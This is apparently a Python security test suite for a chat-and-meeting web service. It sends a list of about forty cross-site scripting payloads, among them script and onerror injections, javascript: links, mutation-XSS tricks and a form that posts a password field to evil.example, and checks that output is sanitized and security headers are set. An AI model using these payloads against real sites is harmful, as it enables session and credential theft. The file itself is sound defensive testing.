"""Markup that somebody sends (W-XSS): what comes back of it is text, in answers that no browser takes for a page."""

import html.parser
import re
import unittest
import urllib.parse

from support.signald_case import UNLIMITED, SignaldCase

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<embed src=//evil.example/x.swf>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<p onclick=alert(1) id=x class=y>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>",
    "[x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "javascript:alert(1)//", "\u202egpj.exe", "\u2066\u202ealert\u2069", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\u0000ipt>alert(1)</script>".replace("\u0000", ""), "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>",
)
ALLOWED = {"p": (), "br": (), "b": (), "i": (), "strong": (), "em": (), "u": (), "s": (), "code": (), "pre": (), "blockquote": (),
           "ul": (), "ol": (), "li": (), "a": ("href", "rel", "target"), "img": ("src", "alt"), **{f"h{n}": () for n in range(1, 7)}}
POLICY = {"default-src": "'self'", "script-src": "'self'", "object-src": "'none'", "base-uri": "'none'", "frame-ancestors": "'none'",
          "require-trusted-types-for": "'script'", "trusted-types": "posts"}


class Elements(html.parser.HTMLParser):
    """What a browser would make of it."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


class MarkupTest(SignaldCase):
    configuration = {"limits": UNLIMITED}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        _, cls.token = cls.signald.sign_up("ann")

    def check_headers(self, answer, where):
        self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff", where)
        self.assertEqual(answer.headers["X-Frame-Options"], "DENY", where)
        self.assertEqual(answer.headers["Referrer-Policy"], "no-referrer", where)
        self.assertEqual(len(answer.headers.get_all("Content-Security-Policy")), 1, where)
        directives = dict(part.strip().split(" ", 1) for part in answer.headers["Content-Security-Policy"].split(";"))
        for name, value in POLICY.items():
            self.assertEqual(directives[name], value, f"{where}: {name}")
        self.assertNotIn("unsafe", answer.headers["Content-Security-Policy"], where)

    def ask(self, method, path, body=None, **headers):
        answer = self.signald.ask(method, path, body, self.token, **headers)
        self.check_headers(answer, f"{method} {path}")
        return answer

    def test_text_comes_back_as_it_was_in_answers_that_are_json(self):
        for payload in PAYLOADS:
            with self.subTest(payload):
                said = self.ask("POST", "/api/chat/messages", {"message": payload})
                self.assertEqual((said.status, said.body["data"]["message"]), (201, payload))
                made = self.ask("POST", "/api/meeting/create/", {"title": payload[:200], "description": payload})
                self.assertEqual(made.body["meeting"]["title"], payload[:200])
                group = self.ask("POST", "/api/conversations", {"title": payload, "members": []})
                self.assertEqual(group.body["data"]["title"], payload)
                renamed = self.ask("PATCH", f"/api/users/{self.ask('GET', '/api/auth/me').body['data']['id']}", {"name": payload[:100]})
                self.assertIn(renamed.status, (200, 400))  # a name has no control characters
                for answer in (said, made, group, renamed):
                    self.assertTrue(answer.headers["Content-Type"].startswith("application/json"))

    def test_posts_are_cleaned(self):
        for payload in PAYLOADS + ("<p>" + "<b>" * 500 + "x", "<p>x</p>" + "<script>" * 100):
            with self.subTest(payload[:60]):
                made = self.ask("POST", "/api/blogs", {"title": payload[:200], "content": f"<p>before</p>{payload}<p>after</p>"})
                if made.status == 400:
                    continue
                content = self.ask("GET", f"/api/blogs/{made.body['data']['id']}").body["data"]["content"]
                for tag, attributes in Elements(content).found:
                    self.assertIn(tag, ALLOWED, content)
                    for name, value in attributes.items():
                        self.assertIn(name, ALLOWED[tag], content)
                        if name in ("href", "src"):
                            scheme = urllib.parse.urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower()
                            self.assertIn(scheme, ("", "http", "https", "mailto"), content)

    def test_no_error_is_a_page(self):
        for payload in PAYLOADS:
            quoted = urllib.parse.quote(payload, safe="")
            for method, path in (("GET", f"/api/{quoted}"), ("GET", f"/api/meeting/{quoted}/"), ("PUT", f"/api/blogs?x={quoted}"),
                                 ("GET", f"/{quoted}.js"), ("GET", f"/socket.io/?EIO=4&transport={quoted}"),
                                 ("GET", f"/api/chat/messages?limit={quoted}"), ("GET", f"/api/logs/user/{quoted}")):
                answer = self.ask(method, path)
                self.assertGreaterEqual(answer.status, 400, path)
                self.assertTrue(answer.headers["Content-Type"].startswith("application/json"), f"{path}: {answer.headers}")
        for answer in (self.ask("POST", "/auth/login", b"<script>", Content_Type="text/html"),
                       self.ask("POST", "/auth/login", b"<script>alert(1)</script>", Content_Type="application/json"),
                       self.ask("GET", "/livez", X_A="<script>" * 3000)):
            self.assertIn(answer.status, (400, 415, 431))
            self.assertTrue(answer.headers["Content-Type"].startswith("application/json"))

    def test_pages_have_no_script_of_their_own(self):
        for path in ("/api?x=<script>alert(1)</script>", "/", "/meeting/<svg onload=alert(1)>", "/blogs/1"):
            answer = self.ask("GET", urllib.parse.quote(path, safe="/?=()"), Accept="text/html")
            if answer.status == 404:  # built without the web client
                continue
            self.assertTrue(answer.headers["Content-Type"].startswith("text/html"), path)
            self.assertNotIn("alert(1)", answer.body)
            for tag, attributes in Elements(answer.body).found:
                self.assertTrue(tag != "script" or "src" in attributes, f"{path}: an inline script")
                self.assertEqual([name for name in attributes if name.startswith("on")], [], path)
        for path, answer in ((path, self.ask("GET", path)) for path in ("/health", "/version", "/api/openapi.json", "/metrics")):
            self.assertNotIn("html", answer.headers["Content-Type"], path)

    def test_what_is_uploaded_is_no_page(self):
        meeting = self.ask("POST", "/api/meeting/create/", {}).body["meeting_id"]
        path = f"/api/meeting/{meeting}/recordings"
        for mime in ("text/html", "image/svg+xml", "application/xhtml+xml", "video", "video/", "video/webm\r\nX-A: b", "VIDEO/<b>",
                     "video/webm; charset=\"<script>\"", "multipart/mixed", ""):
            begun = self.ask("POST", path, {"mime": mime})
            if begun.status == 201:
                self.assertRegex(begun.body["recording"]["mime"], r"^(video|audio)/[\w.+-]+(; ?[\w-]+=[\w.,+\"-]+)*$")
            else:
                self.assertEqual(begun.status, 400, mime)
        rid = self.ask("POST", path, {"mime": "video/webm"}).body["recording"]["id"]
        self.assertEqual(self.ask("PUT", f"{path}/{rid}/parts/1", b"<script>alert(1)</script>", Content_Type="text/html").status, 200)
        self.assertEqual(self.ask("POST", f"{path}/{rid}/complete", {"parts": 1}).status, 200)
        file = self.ask("GET", f"{path}/{rid}")
        self.assertEqual(file.headers["Content-Type"], "video/webm")
        self.assertTrue(file.headers["Content-Disposition"].startswith("attachment"))

    def test_names_are_short_and_have_no_control_characters(self):
        for name in ("e" + "\u0301" * 10_000, "a\u0000b", "a\nb", "a\rb", "\u001b[31mred", "x" * 41, "", " "):
            self.assertEqual(self.signald.ask("POST", "/api/auth/guest", {"name": name}).status, 400, repr(name[:20]))


if __name__ == "__main__":
    unittest.main()
